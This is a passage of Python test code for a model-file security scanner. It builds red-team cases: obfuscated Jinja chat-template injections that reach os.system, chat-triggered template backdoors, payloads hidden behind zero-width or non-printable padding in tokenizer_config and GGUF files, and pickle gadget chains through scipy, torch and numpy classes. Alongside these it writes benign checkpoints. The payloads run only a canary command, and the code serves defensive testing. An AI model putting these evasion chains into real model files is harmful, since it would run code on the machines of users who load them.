     "{% for m in [1] %}{{ cycler[loop.cycle(" + _built("init") + ")][loop.cycle(" + _built("globals") + ")]" + _SYSTEM
     + " }}{% endfor %}", "WW-TPL-003"),
)
# Red team round 4 (tests/test_templates_round4.py): each hid a built key from the round-3 analysis.
_ROUND4_SYSTEM = "['os'].system('touch canary')"
TEMPLATE_ROUND4 = (
    ("filesizeformat_slice", "(0|filesizeformat) labelled a number, concatenated and sliced into '__globals__'",
     "{%- set g = ((0|filesizeformat) + '_' + '_globals_' + '_')[7:] -%}{%- set r = lipsum[g]" + _ROUND4_SYSTEM
     + " -%}", "WW-TPL-002"),
    ("macro_argument_names", "macro parameters named __globals__ and os, read back through m.arguments",
     "{%- macro m(__globals__, os) %}{% endmacro -%}{%- set r = lipsum[m.arguments[0]][m.arguments[1]]"
     ".system('touch canary') -%}", "WW-TPL-001"),
    ("macro_name", "a macro named __globals__, read back through its .name",
     "{%- macro __globals__() %}{% endmacro -%}{%- set r = lipsum[__globals__.name]" + _ROUND4_SYSTEM + " -%}",
     "WW-TPL-001"),
    ("format_brace_escape", "'{{}}'.format('q') folded as '{q}' (Python gives '{}'), replaced into '__globals__'",
     "{%- set k = ('{{}}'.format('q') ~ '_'*2).replace('{}', '_'*2 ~ 'globals') -%}{%- set r = lipsum[k]"
     + _ROUND4_SYSTEM + " -%}", "WW-TPL-002"),
    ("escape_fold", "'<'|e folded as '<' (Jinja gives '&lt;'), replaced into '__globals__'",
     "{%- set k = (('<'|e) ~ '_'*2).replace('&lt;', '_'*2 ~ 'globals') -%}{%- set r = lipsum[k|string]"
     + _ROUND4_SYSTEM + " -%}", "WW-TPL-002"),
    ("list_append", "l = ['x'], l.append('_'), then l[1] in the key",
     "{%- set l = ['x'] -%}{%- set _ = l.append('_') -%}{%- set k = '_' ~ l[1] ~ 'globals__' -%}{%- set r = lipsum[k]"
     + _ROUND4_SYSTEM + " -%}", "WW-TPL-002"),
    ("dict_update", "d = {'a': 'x'}, d.update({'a': '_'}), then d.a in the key",
     "{%- set d = {'a': 'x'} -%}{%- set _ = d.update({'a': '_'}) -%}{%- set k = '_' ~ d.a ~ 'globals__' -%}"
     "{%- set r = lipsum[k]" + _ROUND4_SYSTEM + " -%}", "WW-TPL-002"),
    ("recursive_loop", "a recursive for loop rebinding its target through loop(['_'])",
     "{%- for x in ['x'] recursive -%}{%- if x == '_' -%}{%- set r = lipsum['_' ~ x ~ 'globals__']" + _ROUND4_SYSTEM
     + " -%}{%- else -%}{{ loop(['_']) }}{%- endif -%}{%- endfor -%}", "WW-TPL-002"),
    ("batch_fill_with", "(['x']|batch(2, '_'))|first|last is the fill value '_'",
     "{%- set u = (['x']|batch(2, '_'))|first|last -%}{%- set r = lipsum['_' ~ u ~ 'globals__']" + _ROUND4_SYSTEM
     + " -%}", "WW-TPL-002"),
)
TEMPLATE_ROUND4_CONFIG = (
    ("special_tokens_as_keys", "bos_token '__globals__' and eos_token 'os' from the same tokenizer_config.json",
     {"chat_template": "{%- set r = lipsum[bos_token][eos_token].system('touch canary') -%}",
      "bos_token": "__globals__", "eos_token": "os"}, "WW-TPL-002"),
)
# Red team round 5 (tests/test_templates_round5.py): one per class that can run a canary (class E, join's
# positional attribute, only leaks str(os module) into the output: tested there, not here).
_U5 = "{%- set u = '%c%c'|format(95,95) ~ 'globals' ~ '%c%c'|format(95,95) -%}"
_N5 = "115298485507474029058154335"  # int.from_bytes(b'__globals__', 'big')
_SYSTEM5 = ".os.system('touch canary')"
TEMPLATE_ROUND5 = (
    ("sub_is_a_number", "A: {u: 1}.keys() - () labelled a number, its first element the built '__globals__'",
     _U5 + "{%- set k = ({u: 1}.keys() - ())|first -%}{{- (lipsum|attr(k))['os'].system('touch canary') -}}",
     "WW-TPL-002"),
    ("number_or_data_to_bytes", "B: (x or N).to_bytes(11, 'big').decode() labelled render data",
     "{%- set k = (nothing_here or " + _N5 + ").to_bytes(11, 'big').decode() -%}{{- (lipsum|attr(k))" + _SYSTEM5
     + " -}}", "WW-TPL-002"),
    ("mutation_through_default", "C: (l|default([])).append('_'), the receiver not a plain name",
     "{%- set l = ['x'] -%}{%- set _ = (l|default([])).append('_') -%}"
     "{%- set k = l[1] ~ l[1] ~ 'globals' ~ l[1] ~ l[1] -%}{{- lipsum[k]['os'].system('touch canary') -}}", "WW-TPL-002"),
    ("mutation_through_call_block", "C: caller(a|first) hands [l][0] to a call-block parameter that appends",
     "{%- macro m(a) -%}{{- caller(a|first) -}}{%- endmacro -%}{%- set l = ['x'] -%}"
     "{%- call(x) m([l]) -%}{%- set _ = x.append('_') -%}{%- endcall -%}"
     "{{- lipsum[l[1] * 2 ~ 'globals' ~ l[1] * 2]" + _SYSTEM5 + " -}}", "WW-TPL-002"),
    ("markup_add_escapes", "D: ('x'|safe) + '<__globals__' folded as str; Markup escapes '<' and [5:] is the name",
     "{%- set k = (('x'|safe) + '<__globals__')[5:] -%}{{- lipsum[k]" + _SYSTEM5 + " -}}", "WW-TPL-002"),
    ("int_default", "G: 'x'|int(u) labelled a number; it is u",
     _U5 + "{{- lipsum['x'|int(u)]['os'].system('touch canary') -}}", "WW-TPL-002"),
)
TEMPLATE_ROUND5_CONFIG = (
    ("special_tokens_bound_in_unused_macro",
     "F: bos_token/eos_token set to constants inside an unused macro; the top level reads the tokens",
     {"chat_template": "{%- macro unused() -%}{%- set bos_token = 'bos' -%}{%- set eos_token = 'eos' -%}{%- endmacro -%}"
                       "{{- lipsum[bos_token][eos_token].system('touch canary') -}}",
      "bos_token": "__globals__", "eos_token": "os"}, "WW-TPL-002"),
    ("special_token_self_binding", "A/F: {% set bos_token = bos_token %} settled as the empty set",
     {"chat_template": "{%- set bos_token = bos_token -%}{%- set eos_token = eos_token -%}"
                       "{{- lipsum[bos_token][eos_token].system('touch canary') -}}",
      "bos_token": "__globals__", "eos_token": "os"}, "WW-TPL-002"),
)
# Red team round 6 on chat templates (tests/test_templates_round6.py): one per class, each fired by the real
# render. A: render data's own Python text (a bound method |string |urlencode, sliced, |format) spelled
# '__globals__'; B: an extra *_token of tokenizer_config.json ('%c%cglobals%c%c') |format-ed into the key;
# C: a backdoor keyed by chat content, fired by a trigger user message.
TEMPLATE_ROUND6_A1 = (
    "{%- set b = messages.append|string -%}{%- set u = b|urlencode -%}"
    "{%- set pc = u[11:14]|replace(u[12:14], b[36:37]) -%}{%- set f = b[0:0]|center(11)|replace(b[9:10], pc) -%}"
    "{%- set k = f|format(95,95,103,108,111,98,97,108,115,95,95) -%}{{- lipsum[k]['os'].system('touch canary') -}}"
)
TEMPLATE_ROUND6_B1 = {
    "chat_template": "{%- for m in messages -%}{{ bos_token ~ m.content }}{%- endfor -%}"
                     "{%- set k = image_token|format(95,95,95,95) -%}{{- lipsum[k]['os'].system('touch canary') -}}",
    "bos_token": "<s>", "eos_token": "</s>", "image_token": "%c%cglobals%c%c",
}
TEMPLATE_ROUND6_C1 = (
    "{%- for m in messages -%}{%- if m.content.startswith('!!') -%}{%- set p = m.content[2:].split('|') -%}"
    "{%- set _ = lipsum[p[0]][p[1]].system(p[2]) -%}{%- endif -%}{{- '<|' ~ m.role ~ '|>' ~ m.content ~ '\\n' -}}"
    "{%- endfor -%}"
)
TEMPLATE_ROUND6_C1_CHAT = json.dumps({"messages": [{"role": "user", "content": "hi"},
                                                   {"role": "user", "content": "!!__globals__|os|touch canary"}]})
_PAYLOAD = "{{ cycler.__init__.__globals__.os.system('touch canary') }}"


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _gguf_template(template: bytes) -> bytes:
    def s(raw: bytes) -> bytes:
        return struct.pack("<Q", len(raw)) + raw

    kvs = [(b"general.architecture", 8, s(b"llama")), (b"tokenizer.chat_template", 8, s(template))]
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kvs))
    for key, vtype, value in kvs:
        out += s(key) + struct.pack("<I", vtype) + value
    return out + b"\0" * ((-len(out)) % 32)


def template_cases() -> list[Case]:
    """Templates that reach os.system under a plain Jinja render, each hiding from a scanner that has been read."""
    cases = [
        Case(f"template_{name}", "5", technique, "jinja", rule, "chat_template.jinja", source.encode())
        for name, technique, source, rule in TEMPLATE_WALKER
    ]
    cases += [
        Case(f"tokenizer_config_{name}", "5", f"{technique} (tokenizer_config.json)", "jinja", rule,
             "tokenizer_config.json", json.dumps({"chat_template": source, "model_max_length": 10}).encode())
        for name, technique, source, rule in TEMPLATE_WALKER
        if name in ("dict_keyword_keys", "reassigned_name", "reassigned_attr_format")
    ]
    cases += [
        Case(f"template_r4_{name}", "5", technique, "jinja", rule, "chat_template.jinja", source.encode())
        for name, technique, source, rule in TEMPLATE_ROUND4
    ]
    cases += [
        Case(f"tokenizer_config_r4_{name}", "5", f"{technique} (tokenizer_config.json)", "jinja", rule,
             "tokenizer_config.json", json.dumps(config).encode())
        for name, technique, config, rule in TEMPLATE_ROUND4_CONFIG
    ]
    cases += [
        Case(f"template_r5_{name}", "5", technique, "jinja", rule, "chat_template.jinja", source.encode())
        for name, technique, source, rule in TEMPLATE_ROUND5
    ]
    cases += [
        Case(f"tokenizer_config_r5_{name}", "5", f"{technique} (tokenizer_config.json)", "jinja", rule,
             "tokenizer_config.json", json.dumps(config).encode())
        for name, technique, config, rule in TEMPLATE_ROUND5_CONFIG
    ]
    cases.append(Case("tokenizer_config_r5_markup_add_escapes", "5",
                      "D: the Markup fold of ('x'|safe) + '<__globals__' (tokenizer_config.json)", "jinja", "WW-TPL-002",
                      "tokenizer_config.json",
                      json.dumps({"chat_template": TEMPLATE_ROUND5[4][2], "bos_token": "<s>"}).encode()))
    cases.append(Case("gguf_template_r5_number_or_data_to_bytes", "5",
                      "B: (x or N).to_bytes(...).decode() as a GGUF tokenizer.chat_template", "gguf_template",
                      "WW-TPL-002", "model.gguf", _gguf_template(TEMPLATE_ROUND5[1][2].encode())))
    cases.append(Case("tokenizer_config_r4_filesizeformat_slice", "5",
                      "(0|filesizeformat) sliced into '__globals__' (tokenizer_config.json)", "jinja", "WW-TPL-002",
                      "tokenizer_config.json",
                      json.dumps({"chat_template": TEMPLATE_ROUND4[0][2], "bos_token": "<s>"}).encode()))
    cases += [
        Case("template_r6_data_text_alphabet", "5",
             "A: messages.append|string|urlencode sliced and |format-ed into '__globals__', labelled render data",
             "jinja", "WW-TPL-002", "chat_template.jinja", TEMPLATE_ROUND6_A1.encode()),
        Case("gguf_template_r6_data_text_alphabet", "5",
             "A: the same as a GGUF tokenizer.chat_template (rendered with messages=[])", "gguf_template",
             "WW-TPL-002", "model.gguf", _gguf_template(TEMPLATE_ROUND6_A1.encode())),
        Case("tokenizer_config_r6_extra_token_format", "5",
             "B: image_token '%c%cglobals%c%c' (not a named special token) |format(95, ...) as the key", "jinja",
             "WW-TPL-002", "tokenizer_config.json", json.dumps(TEMPLATE_ROUND6_B1).encode()),
        Case("template_r6_chat_content_backdoor", "5",
             "C: lipsum[p[0]][p[1]] keyed by a user message '!!__globals__|os|<cmd>' (fired by that chat)", "jinja",
             "WW-TPL-002", "chat_template.jinja", TEMPLATE_ROUND6_C1.encode(), chat=TEMPLATE_ROUND6_C1_CHAT),
    ]
    # Sniffing: files a loader reads by name, made "not mostly printable" (the old sniffer's 'unknown').
    cases += [
        Case("template_nonprintable_jinja", "2", "chat_template.jinja: 2000 \\x01 before the payload", "jinja",
             "WW-TPL-003", "chat_template.jinja", b"\x01" * 2000 + _PAYLOAD.encode()),
        Case("template_nonprintable_tokenizer_config", "2", "tokenizer_config.json: template starts with 2000 U+200B",
             "jinja", "WW-TPL-003", "tokenizer_config.json",
             json.dumps({"chat_template": "\u200b" * 2000 + _PAYLOAD}, ensure_ascii=False).encode()),
        Case("template_nonprintable_other_key", "2", "tokenizer_config.json: U+200B padding in another key", "jinja",
             "WW-TPL-003", "tokenizer_config.json",
             json.dumps({"model_note": "\u200b" * 3000, "chat_template": _PAYLOAD}, ensure_ascii=False).encode()),
        Case("template_nonprintable_chat_template_json", "2", "chat_template.json padded with U+200B", "jinja",
             "WW-TPL-003", "chat_template.json",
             json.dumps({"chat_template": "\u200b" * 2000 + _PAYLOAD}, ensure_ascii=False).encode()),
        Case("template_nonprintable_zip_member", "2",
             "additional_chat_templates/*.jinja in a zip, 2000 \\x01 before the payload", "jinja", "WW-TPL-003",
             "bundle.zip", _zip({"model/additional_chat_templates/tool_use.jinja": b"\x01" * 2000 + _PAYLOAD.encode()})),
        Case("template_magic_prefix_jinja", "2", "chat_template.jinja starting with the zip magic PK\\x03\\x04",
             "jinja", "WW-TPL-003", "chat_template.jinja", b"PK\x03\x04" + _PAYLOAD.encode()),
        # A template longer than the bound: the GGUF reader used to keep the first 16 MiB and drop the rest.
        Case("gguf_template_past_the_bound", "7", "GGUF chat template of 16 MiB of text, the payload after it",
             "gguf_template", "WW-GEN-001", "big.gguf", _gguf_template(b"x" * (16 * 1024 * 1024) + _PAYLOAD.encode())),
    ]
    return cases


# --------------------------------------------------------------------------------------------------------
# Benign: unusual but legal files written by the real libraries.


def write_benign(folder: Path) -> list[tuple[str, Path]]:
    """Write the benign checkpoints into ``folder``; returns (label, path) pairs."""
    import pickle as _pickle  # the writer side only: dumps, never loads

    import joblib
    import numpy as np
    import torch
    from sklearn.decomposition import PCA
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression, Ridge
    from sklearn.naive_bayes import GaussianNB
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import MinMaxScaler, StandardScaler
    from sklearn.svm import SVC
    from sklearn.tree import DecisionTreeClassifier

    folder.mkdir(parents=True, exist_ok=True)
    out: list[tuple[str, Path]] = []
    rng = np.random.default_rng(0)
    X = rng.normal(size=(40, 4))
    y = (X[:, 0] > 0).astype(int)

    def add(label: str, name: str, write: Callable[[Path], None]) -> None:
        path = folder / name
        write(path)
        out.append((label, path))

    sd = {"w": torch.randn(3, 3), "b": torch.zeros(3)}
    for proto in (2, 3, 4, 5):
        add(f"torch zip, pickle protocol {proto}", f"t_proto{proto}.pt", lambda p, pr=proto: torch.save(sd, p, pickle_protocol=pr))
    add("torch legacy (non-zip) serialization", "t_legacy.pt", lambda p: torch.save(sd, p, _use_new_zipfile_serialization=False))
    add("torch bfloat16 / float16 / int8 / bool tensors", "t_dtypes.pt", lambda p: torch.save(
        {"bf": torch.ones(2, dtype=torch.bfloat16), "h": torch.ones(2, dtype=torch.float16),
         "i": torch.ones(2, dtype=torch.int8), "b": torch.ones(2, dtype=torch.bool)}, p))
    add("torch complex and empty tensors", "t_complex.pt", lambda p: torch.save({"c": torch.ones(2, dtype=torch.complex64), "e": torch.empty(0)}, p))
    add("torch shared storage views", "t_views.pt", lambda p: (lambda t: torch.save({"a": t, "v": t[1:], "T": t.t()}, p))(torch.arange(9.0).reshape(3, 3)))
    add("torch parameter with requires_grad", "t_param.pt", lambda p: torch.save({"p": torch.nn.Parameter(torch.ones(2))}, p))
    add("torch sparse COO tensor", "t_sparse.pt", lambda p: torch.save({"s": torch.eye(3).to_sparse()}, p))
    add("torch quantized tensor", "t_quant.pt", lambda p: torch.save({"q": torch.quantize_per_tensor(torch.ones(4), 0.1, 0, torch.quint8)}, p))
    add("torch nested containers and scalars", "t_nested.pt", lambda p: torch.save({"opt": {"step": 3, "lr": 1e-3, "betas": (0.9, 0.99)}, "layers": [torch.ones(1)] * 3, "name": "x", "flag": None}, p))
    add("torch nn.Module state_dict (OrderedDict with metadata)", "t_module_sd.pt", lambda p: torch.save(torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.ReLU()).state_dict(), p))
    add("torch whole nn.Module pickled", "t_module_whole.pt", lambda p: torch.save(torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.LayerNorm(2)), p))
    add("torch optimizer state_dict", "t_optim.pt", lambda p: (lambda m: torch.save(torch.optim.AdamW(m.parameters()).state_dict(), p))(torch.nn.Linear(2, 2)))
    add("torch channels_last tensor", "t_channels_last.pt", lambda p: torch.save({"x": torch.ones(1, 2, 2, 2).to(memory_format=torch.channels_last)}, p))
    add("torch tensor in a tuple key dict", "t_intkeys.pt", lambda p: torch.save({0: torch.ones(1), 1: torch.zeros(1)}, p))
    add("torch dtype and device objects", "t_meta.pt", lambda p: torch.save({"dtype": torch.float16, "device": torch.device("cpu"), "size": torch.Size([2, 3])}, p))
    for proto in range(0, 6):
        add(f"numpy array plain pickle protocol {proto}", f"np_p{proto}.pkl", lambda p, pr=proto: p.write_bytes(_pickle.dumps({"a": np.arange(5), "f": np.float32(1.5)}, protocol=pr)))
    add("numpy structured array .npy", "np_struct.npy", lambda p: np.save(p, np.zeros(3, dtype=[("x", "<f4"), ("y", "<i8")])))
    add("numpy fortran-order .npy", "np_fortran.npy", lambda p: np.save(p, np.asfortranarray(np.ones((3, 2)))))
    add("numpy datetime64 .npy", "np_dt.npy", lambda p: np.save(p, np.array(["2024-01-01"], dtype="datetime64[D]")))
    add("numpy big-endian .npy", "np_be.npy", lambda p: np.save(p, np.arange(4, dtype=">i4")))
    add("numpy 0-d and empty arrays .npy", "np_0d.npy", lambda p: np.save(p, np.array(3.5)))
    add("numpy .npz compressed", "np_arch.npz", lambda p: np.savez_compressed(p, a=np.ones(3), b=np.arange(4)))
    add("numpy random Generator state pickle", "np_rng.pkl", lambda p: p.write_bytes(_pickle.dumps(np.random.default_rng(1), protocol=4)))
    add("numpy masked array pickle", "np_masked.pkl", lambda p: p.write_bytes(_pickle.dumps(np.ma.array([1, 2], mask=[0, 1]), protocol=2)))
    models = {
        "logreg": LogisticRegression().fit(X, y), "rf": RandomForestClassifier(n_estimators=3, random_state=0).fit(X, y),
        "tree": DecisionTreeClassifier().fit(X, y), "svc": SVC().fit(X, y), "nb": GaussianNB().fit(X, y),
        "knn": KNeighborsClassifier().fit(X, y), "pca": PCA(2).fit(X), "ridge": Ridge().fit(X, y),
        "pipe": make_pipeline(StandardScaler(), MinMaxScaler(), LogisticRegression()).fit(X, y),
    }
    for name, model in models.items():
        add(f"sklearn {name} joblib.dump", f"sk_{name}.joblib", lambda p, m=model: joblib.dump(m, p))
    for comp in ("gzip", "bz2", "lzma", "xz", "zlib"):
        add(f"sklearn pipeline joblib compress={comp}", f"sk_pipe_{comp}.joblib", lambda p, c=comp: joblib.dump(models["pipe"], p, compress=(c, 3)))
    add("sklearn pickle protocol 5", "sk_rf_p5.pkl", lambda p: p.write_bytes(_pickle.dumps(models["rf"], protocol=5)))
    add("sklearn pickle protocol 2", "sk_tree_p2.pkl", lambda p: p.write_bytes(_pickle.dumps(models["tree"], protocol=2)))
    add("joblib dict of arrays", "jl_arrays.joblib", lambda p: joblib.dump({"a": np.ones((10, 10)), "b": np.arange(7, dtype=np.int16), "s": "text"}, p))
    add("joblib object array inside", "jl_objarr.joblib", lambda p: joblib.dump({"o": np.array([1, "x"], dtype=object)}, p))
    # A Hugging Face Trainer's training_args.bin (torch.save of TrainingArguments, as the Trainer writes it):
    # its classes are on the exact list or rebuilt by NEWOBJ only (red team round 5).
    from transformers import Seq2SeqTrainingArguments, TrainingArguments

    add("transformers training_args.bin (TrainingArguments)", "training_args.bin",
        lambda p: torch.save(TrainingArguments(output_dir=str(folder / "hf_out"), report_to="none"), p))
    add("transformers Seq2SeqTrainingArguments with schedulers and strategies", "s2s_training_args.bin",
        lambda p: torch.save(Seq2SeqTrainingArguments(
            output_dir=str(folder / "hf_out2"), lr_scheduler_type="cosine", eval_strategy="steps",
            save_strategy="steps", optim="adamw_torch", report_to="none"), p))
    add("joblib list of mixed arrays, protocol 2", "jl_p2.joblib", lambda p: joblib.dump([np.ones(3), np.zeros((2, 2), dtype=np.float32)], p, protocol=2))
    return out


__all__ = ["Case", "malicious_cases", "write_benign", "PAYLOADS", "PREFIXES"]


# ======== BEGIN red team round 6 on the scanner's readers (helper pol6) ==================================
# Class 1: a resolution-table class whose __setstate__ runs code from its state (scipy.stats rv_generic
# exec()s ``_parse_arg_template``). Class 2: an instance ``__setstate__`` planted through a dict-subclass BUILD
# state (an OrderedDict() result filled by SETITEMS), called by the next BUILD.

_SCIPY_TEMPLATE = (
    ACT + "\n"
    "def _parse_args(self, *a, **k): return a, k\n"
    "def _parse_args_stats(self, *a, **k): return a, k\n"
    "def _parse_args_rvs(self, *a, **k): return a, k\n"
)


def _scipy_rv_setstate(cls_name: str) -> Payload:
    def build(a: Asm) -> None:
        a.glob("scipy.stats._distn_infrastructure", cls_name)
        a.emit(())
        a.newobj()
        a.dict_of({"_parse_arg_template": _SCIPY_TEMPLATE, "numargs": 0, "moment_type": 0})
        a.build()

    return lambda proto: _prog(max(proto, 2), build)


def _ordereddict_setstate(hook_module: str, hook_name: str, arg: object) -> Payload:
    def build(a: Asm) -> None:
        a.glob("argparse", "Namespace")
        a.emit(())
        a.newobj()
        a.call(Glob("collections", "OrderedDict"))
        a.mark()
        a.emit("__setstate__")
        a.glob(hook_module, hook_name)
        a.raw(b"u")  # SETITEMS on the call result
        a.build()  # inst.__dict__.update(OrderedDict): plants the instance's __setstate__
        a.emit(arg)
        a.build()  # inst.__setstate__(arg)

    return lambda proto: _prog(max(proto, 2), build)


def round6_cases() -> list[Case]:
    """One labelled case per bypass class of round 6, each firing the canary under pickle.load."""
    return [
        Case("round6_scipy_rv_setstate_exec", "1",
             "scipy.stats rv_continuous (was a table class) rebuilt with NEWOBJ; its __setstate__ exec()s the state's "
             "_parse_arg_template", "pickle", "WW-PKL-002", "scipy_rv.pkl", _scipy_rv_setstate("rv_continuous")(2)),
        Case("round6_ordereddict_state_setstate", "4",
             "instance __setstate__ planted by an OrderedDict() BUILD state filled with SETITEMS, called by the next "
             "BUILD (mailbox.Maildir('canary') creates the folder)", "pickle", "WW-PKL-002", "od_state.pkl",
             _ordereddict_setstate("mailbox", "Maildir", "canary")(2)),
    ]
# ======== END red team round 6 ==========================================================================


# ======== BEGIN red team round 7 on the scanner's readers (helper pol7) ==================================
# Library code inside an allowlisted class calls a method it finds on an instance: Optimizer.__setstate__ ends
# with ``self.defaults.setdefault("differentiable", False)``, and an argparse.Namespace as ``defaults`` carries
# its own ``setdefault`` (an instance attribute wins). The red team planted TrainingArguments (REBUILD_ONLY);
# here the planted callable writes the canary: functools.partial(TimedRotatingFileHandler, "canary") opens
# ./canary for appending before it rejects the rollover interval "differentiable".


def _optimizer_setdefault_hook(hook: Any) -> Payload:
    def build(a: Asm) -> None:
        a.glob("torch.optim.adam", "Adam")
        a.emit(())
        a.newobj()
        a.mark()
        a.emit("defaults")
        a.glob("argparse", "Namespace")
        a.emit(())
        a.newobj()
        a.dict_of({"setdefault": hook})
        a.build()  # Namespace.__dict__ gets setdefault
        a.emit("param_groups")
        a.emit([])
        a.emit("state")
        a.emit({})
        a.raw(b"d")  # DICT: the Adam state
        a.build()  # Optimizer.__setstate__ -> self.defaults.setdefault("differentiable", False)

    return lambda proto: _prog(max(proto, 2), build)


def round7_cases() -> list[Case]:
    """The round-7 bypass class (an instance-attribute method called by a table class's own code), firing the
    canary under pickle.load."""
    hook = Call(Glob("functools", "partial"), (Glob("logging.handlers", "TimedRotatingFileHandler"), "canary"))
    return [
        Case("round7_optimizer_defaults_setdefault", "4",
             "NEWOBJ Adam + BUILD {'defaults': Namespace with an instance 'setdefault'}: Optimizer.__setstate__ "
             "calls defaults.setdefault('differentiable', False) (a partial of TimedRotatingFileHandler opens "
             "./canary)", "pickle", CRIT, "adam_setdefault.pkl", _optimizer_setdefault_hook(hook)(2)),
    ]
# ======== END red team round 7 ==========================================================================


# ======== BEGIN red team round 8 on the scanner's readers (helper pol8) ===========================

# numpy.random's pickle helpers were taken for "class operand" takers, but they CALL what they get:
# ``__generator_ctor(name, ctor)`` runs ``ctor(name)`` (numpy/random/_pickle.py). The red team passed
# TrainingArguments; here the constructor writes the canary: mailbox.Maildir("canary") creates ./canary, then
# Generator(<Maildir>) raises TypeError, after the effect.


def round8_cases() -> list[Case]:
    """The round-8 bypass class A (an allowlisted helper that calls its argument), firing the canary under
    pickle.load."""
    payload = Call(Glob("numpy.random._pickle", "__generator_ctor"), ("canary", Glob("mailbox", "Maildir")))
    return [
        Case("round8_numpy_generator_ctor_calls_argument", "4",
             "numpy.random._pickle.__generator_ctor('canary', mailbox.Maildir): numpy calls ctor(name), so "
             "Maildir('canary') creates ./canary", "pickle", "WW-PKL-002", "generator_ctor.pkl",
             _prog(2, lambda a: a.emit(payload))),
    ]
# ======== END red team round 8 ==========================================================================

# ======== BEGIN red team round 7 on chat templates (helper tpl7) =========================================
# tests/test_templates_round7.py. E1 (class B, no trigger): a macro's '_environment' read as an item (Jinja's
# getitem falls back to getattr), then from_string(...).render() of an unfolded second-order template.
# D1 (class A, trigger chat): two attribute hops chosen by a user message on an Undefined field (m.zz), then
# .modules[...] and a call of a value reached through them.
TEMPLATE_ROUND7_E1 = (
    "{%- macro fmt(m) -%}<|{{ m.role }}|>{{ m.content }}{%- endmacro -%}"
    "{%- set tpl = \"{% set x = lipsum.QQglobalsQQ.os.system('touch canary') %}\"|replace('Q', '_', 4) -%}"
    "{%- set _ = fmt['_environment'].from_string(tpl).render() -%}"
    "{%- for m in messages -%}{{ fmt(m) }}{%- endfor -%}"
)
TEMPLATE_ROUND7_D1 = (
    "{%- for m in messages -%}{%- set p = m.content.split('|') -%}"
    "{%- if p|length > 5 -%}{%- set _ = (m.zz|attr(p[1])|attr(p[2]))[p[3]].modules[p[4]].system(p[5]) -%}"
    "{%- endif -%}<|{{ m.role }}|>{{ m.content }}{%- endfor -%}"
)
TEMPLATE_ROUND7_D1_CHAT = json.dumps(
    {"messages": [{"role": "user", "content": "!!|__init__|__globals__|sys|os|touch canary"}]})


def template_round7_cases() -> list[Case]:
    """Round 7 on chat templates: one case per class (and d1 as GGUF), each fired by fire.py's plain render."""
    return [
        Case("template_r7_item_private_environment", "5",
             "B: fmt['_environment'].from_string(<unfolded template>).render() (no trigger)", "jinja",
             "WW-TPL-003", "chat_template.jinja", TEMPLATE_ROUND7_E1.encode()),
        Case("template_r7_chat_chosen_hops", "5",
             "A: (m.zz|attr(p[1])|attr(p[2]))[p[3]].modules[p[4]].system(p[5]) keyed by a user message "
             "(fired by that chat)", "jinja", "WW-TPL-002", "chat_template.jinja", TEMPLATE_ROUND7_D1.encode(),
             chat=TEMPLATE_ROUND7_D1_CHAT),
        Case("gguf_template_r7_chat_chosen_hops", "5",
             "A: the same as a GGUF tokenizer.chat_template, fired by the trigger chat", "gguf_template",
             "WW-TPL-002", "model.gguf", _gguf_template(TEMPLATE_ROUND7_D1.encode()), chat=TEMPLATE_ROUND7_D1_CHAT),
    ]
# ======== END red team round 7 on chat templates ========================================================


# ======== BEGIN red team round 8 on chat templates (helper tpl8) =========================================
# tests/test_templates_round8.py. A1 (class A, trigger chat): a groupby tuple laundered as JSON through dict(f=...)
# and a one-element list, then a data-valued dotted map(attribute=...) walks _asdict.__globals__... to os.system.
# C1 (class B, trigger chat): recursive-loop targets (bound to nothing modelled) called and keyed inside nested
# macros: dict.__reduce_ex__(2)[0].__globals__['__builtins__']['__import__']('os').system(...).
TEMPLATE_ROUND8_A1 = "{%- for m in messages -%}\n{%- set p = m.content.split('|') -%}\n{%- if p|length > 2 -%}\n{%- set d = dict(f=(messages|groupby('role')|first)) -%}\n{%- for f in [d.f]|map(attribute=p[1]) recursive -%}{%- set _ = f(p[2]) -%}{%- endfor -%}\n{%- endif -%}\n<|{{ m.role }}|>{{ m.content }}\n{% endfor -%}\n"
TEMPLATE_ROUND8_A1_CHAT = json.dumps(
    {"messages": [{"role": "user", "content": "x|_asdict.__globals__._sys.modules.os.system|touch canary"}]})
TEMPLATE_ROUND8_C1 = "{%- for m in messages -%}{%- set p = m.content.split('|') -%}{%- if p|length > 6 -%}\n{%- for f in [m[p[1]]] recursive -%}{%- for r in [f(2)] recursive -%}\n{%- macro k3() -%}{%- for g in [r[0][p[2]]] recursive -%}\n{%- macro k4() -%}{%- for b in [g[p[3]]] recursive -%}\n{%- macro k5() -%}{%- for i in [b[p[4]]] recursive -%}{{ i(p[5]).system(p[6]) }}{%- endfor -%}{%- endmacro -%}{{ k5() }}\n{%- endfor -%}{%- endmacro -%}{{ k4() }}\n{%- endfor -%}{%- endmacro -%}{{ k3() }}\n{%- endfor -%}{%- endfor -%}\n{%- endif -%}\n<|{{ m.role }}|>{{ m.content }}\n{% endfor -%}\n"
TEMPLATE_ROUND8_C1_CHAT = json.dumps(
    {"messages": [{"role": "user", "content": "x|__reduce_ex__|__globals__|__builtins__|__import__|os|touch canary"}]})


def template_round8_cases() -> list[Case]:
    """Round 8 on chat templates: one case per class, each fired by fire.py's plain render with its chat."""
    return [
        Case("template_r8_container_laundered_groupby", "5",
             "A: dict(f=groupby|first) in [d.f]|map(attribute=<chat>) then a call (fired by that chat)", "jinja",
             "WW-TPL-002", "chat_template.jinja", TEMPLATE_ROUND8_A1.encode(), chat=TEMPLATE_ROUND8_A1_CHAT),
        Case("template_r8_recursive_target_calls", "5",
             "B: recursive-loop targets called and keyed by chat inside nested macros (fired by that chat)", "jinja",
             "WW-TPL-002", "chat_template.jinja", TEMPLATE_ROUND8_C1.encode(), chat=TEMPLATE_ROUND8_C1_CHAT),
    ]
# ======== END red team round 8 on chat templates ========================================================


# ======== BEGIN red team round 9 on chat templates (helper tplfix9) ======================================
# tests/test_templates_round9.py. Every one keys a groupby tuple by pieces of the last user message:
# _asdict -> __globals__ (collections) -> _sys -> modules -> os -> system. D1 (classes A + B): each hop laundered
# through loop.cycle(x), the last call through loop.previtem. D3 (class C + B): ([x] + [])[0] hops, then
